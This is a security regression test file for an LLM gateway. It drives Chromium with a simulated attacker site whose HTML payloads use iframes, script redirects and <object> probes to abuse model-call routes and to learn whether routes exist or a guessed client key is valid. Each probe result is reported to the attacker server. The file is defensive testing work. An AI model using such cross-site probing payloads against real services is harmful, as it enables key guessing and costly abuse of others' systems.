// A web page may send the user's browser to gw — a link to the status page must work — but what
// it sends there must neither reach an instance nor tell the page anything. Found in real
// chromium: navigations to a model call were forwarded, logged and counted in the anonymous
// failure streak (a page forced `*.auto` upgrades onto the expensive route), and an <object>'s
// load or error told a page which routes exist and whether a guessed client key was right.
import { afterAll, beforeAll, expect, test } from "bun:test";
import Anthropic from "@anthropic-ai/sdk";
import type { Browser } from "playwright-core";
import type { RunningGateway } from "../../src/lb/server.ts";
import { launchChromium } from "../helpers/browser.ts";
import { configFrom, externalInstances, startTestGateway, testUpstream, type TestUpstream } from "../helpers/lb.ts";
import { until } from "../helpers/supervisor.ts";

let upstream: TestUpstream;
let open: RunningGateway; // no client keys: a laptop's default
let keyed: RunningGateway;
let browser: Browser;
let attacker: ReturnType<typeof Bun.serve>;
let heard: string[] = [];

const routes = `[routing]\n"m.auto" = [{ instance = "a", provider = "anthropic", model = "small" }]\n"big" = [{ instance = "a", provider = "anthropic", model = "expensive" }]\n`;

beforeAll(async () => {
  // CLIProxyAPI's router: a GET of a model call is a 404.
  upstream = testUpstream((req, seen) => (req.method === "GET" ? new Response("404 page not found", { status: 404 }) : Response.json({ id: "m1", type: "message", role: "assistant", model: JSON.parse(seen.body).model, content: [{ type: "text", text: "hi" }], stop_reason: "end_turn", usage: { input_tokens: 1, output_tokens: 1 } })));
  const upgrade = `lb_auto_upgrade_enabled = true\nlb_auto_upgrade_failure_streak_threshold = 2\nlb_auto_upgrade_map = { "m.auto" = "big" }\n`;
  open = startTestGateway(configFrom(`[global]\nmain_port = 8145\nhost = "127.0.0.1"\n${upgrade}${externalInstances({ a: upstream.url })}\n${routes}`));
  keyed = startTestGateway(configFrom(`[global]\nmain_port = 8145\nhost = "127.0.0.1"\napi_keys = ["sekret-client-key"]\n${externalInstances({ a: upstream.url })}\n${routes}`));
  // Another site on this machine (another port: same-site for the browser), and where its pages report.
  attacker = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch(req) {
      const url = new URL(req.url);
      if (url.pathname === "/heard") return (heard.push(url.searchParams.get("what")!), new Response("ok"));
      return new Response(decodeURIComponent(url.searchParams.get("page") ?? ""), { headers: { "content-type": "text/html" } });
    },
  });
  browser = await launchChromium();
}, 60_000);

afterAll(async () => {
  await browser?.close();
  attacker?.stop(true);
  await open?.stop(0);
  await keyed?.stop(0);
  await upstream?.stop();
});

/** Open a page of the attacker's site whose HTML is `html`. */
async function visit(html: string, settled: () => boolean): Promise<void> {
  const page = await browser.newPage();
  try {
    await page.goto(`${attacker.url.href}?page=${encodeURIComponent(html)}`, { waitUntil: "load" });
    await until(settled, 15_000, () => `the page's probes to report (heard: ${heard.join(", ")})`);
  } finally {
    await page.close();
  }
}

test("frames and top-level navigations to a model call reach no instance and leave the failure streak alone: *.auto is not upgraded", async () => {
  const call = (n: number) => `${open.url}/v1beta/models/m.auto:generateContent?n=${n}`;
  const page = await browser.newPage();
  try {
    await page.goto(`${attacker.url.href}?page=${encodeURIComponent(`<iframe src="${call(1)}"></iframe><iframe src="${call(2)}"></iframe><iframe src="${call(3)}"></iframe>`)}`, { waitUntil: "load" });
    for (const n of [4, 5, 6]) {
      // A page of the attacker's sends the whole tab there itself, as a script or a link would.
      await page.goto(`${attacker.url.href}?page=${encodeURIComponent(`<script>location.href = ${JSON.stringify(call(n))}</script>`)}`);
      await page.waitForURL((u) => u.href.includes(`n=${n}`));
      await page.waitForLoadState("load");
      expect(await page.content()).toContain("with POST only"); // gw's own 405: the navigation itself is let through
    }
  } finally {
    await page.close();
  }
  expect(upstream.seen.filter((s) => s.method === "GET")).toEqual([]);
  const client = new Anthropic({ baseURL: open.url, apiKey: "unused", maxRetries: 0 });
  const { response } = await client.messages.create({ model: "m.auto", max_tokens: 5, messages: [{ role: "user", content: "hi" }] }).withResponse();
  expect(response.headers.get("x-gw-route")).toBe("m.auto");
  expect(upstream.seen.at(-1)?.body).toContain('"model":"small"');
});

test("an <object> or <iframe> of gw's answers fails alike for a route that exists and one that does not, a right key and a wrong one", async () => {
  heard = [];
  const probe = (gw: string, paths: string[]) => `<body><script>
const probe = (tag, p) => new Promise((done) => { const e = document.createElement(tag); e.onload = () => done("load"); e.onerror = () => done("error"); (tag === "object" ? (e.data = "${gw}" + p) : (e.src = "${gw}" + p)); document.body.append(e); setTimeout(() => done("timeout"), 5000); });
(async () => { for (const tag of ["object", "iframe"]) for (const p of ${JSON.stringify(paths)}) await fetch("/heard?what=" + encodeURIComponent(tag + " " + p + " " + (await probe(tag, p)))); })();
</script>`;
  await visit(probe(open.url, ["/v1/models/m.auto", "/v1/models/nosuch"]), () => heard.length === 4);
  await visit(probe(keyed.url, ["/v1/models?key=wrong", "/v1/models?key=sekret-client-key"]), () => heard.length === 8);
  // An iframe always "loads" (the browser's error page): what matters is that a right guess looks like a wrong one.
  const outcome = (line: string) => line.split(" ").at(-1);
  for (const [a, b] of [[0, 1], [2, 3], [4, 5], [6, 7]] as const) expect([heard[a], outcome(heard[a]!)]).toEqual([heard[a], outcome(heard[b]!)]);
  expect(heard.filter((h) => h.startsWith("object")).map(outcome)).toEqual(["error", "error", "error", "error"]);
});
